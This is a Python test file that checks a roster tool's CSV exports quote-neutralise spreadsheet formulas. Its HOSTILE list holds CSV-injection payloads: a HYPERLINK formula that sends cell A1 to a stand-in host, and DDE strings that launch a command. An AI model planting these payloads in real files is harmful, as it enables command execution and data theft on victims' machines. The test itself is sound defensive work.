"""No CSV the station writes hands a spreadsheet a formula: names like `=HYPERLINK(...)` from a roster come out
as text (leading quote) in manifest.csv, missing.csv, summary.csv and `report --format csv`, read back here
with the csv module as Excel would read them."""
from __future__ import annotations

import csv
import io
from pathlib import Path

from click.testing import CliRunner

from station.cli.main import cli
from station.core.csvsafe import FORMULA_START, safe_cell
import workspace_factory as wf

HOSTILE = ["=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
           "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def cells(raw: bytes) -> list[str]:
    text = raw.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def formula_cells(values: list[str]) -> list[str]:
    return [v for v in values if v.startswith(FORMULA_START) and v != "-" and not v.lstrip("+-").isdigit()]


def test_the_neutraliser_quotes_formulas_and_leaves_numbers() -> None:
    assert [safe_cell(v) for v in ("=1+1", "@A1", "+x", "-x", "\tx", "\rx")] == [
        "'=1+1", "'@A1", "'+x", "'-x", "'\tx", "'\rx"]
    assert [safe_cell(v) for v in ("-", "-3", "+86", "3.5", "张三", "", None, 7)] == [
        "-", "-3", "+86", "3.5", "张三", "", None, 7]


def test_every_csv_output_neutralises_formula_cells(tmp_path: Path) -> None:
    rows = wf.roster_rows(14)
    for row, name in zip(rows, HOSTILE + HOSTILE):
        row["name"] = name
    rows[0]["class_name"] = "=1+2"
    store = wf.new_workspace(tmp_path / "ws")
    # half accepted (manifest.csv), half never shot (missing.csv); the report lists everyone
    wf.populate(store, rows, outcome=lambda i, r: "accept" if i % 2 == 0 else "absent",
                photo=wf.finished_photo(0))
    store.close()
    out = tmp_path / "out"
    runner = CliRunner()
    exported = runner.invoke(cli, ["-w", str(tmp_path / "ws"), "export", str(out)], catch_exceptions=False)
    assert exported.exit_code == 0, exported.output
    report = tmp_path / "report.csv"
    done = runner.invoke(cli, ["-w", str(tmp_path / "ws"), "report", "--format", "csv", "--out", str(report)],
                         catch_exceptions=False)
    assert done.exit_code == 0, done.output

    written = [*out.rglob("*.csv"), report]
    assert {p.name for p in written} >= {"manifest.csv", "missing.csv", "summary.csv", "report.csv"}
    seen: list[str] = []
    for path in written:
        values = cells(path.read_bytes())
        assert formula_cells(values) == [], path
        seen += values
    for name in HOSTILE:    # each hostile name is still there, readable, as text
        assert "'" + name in seen, name
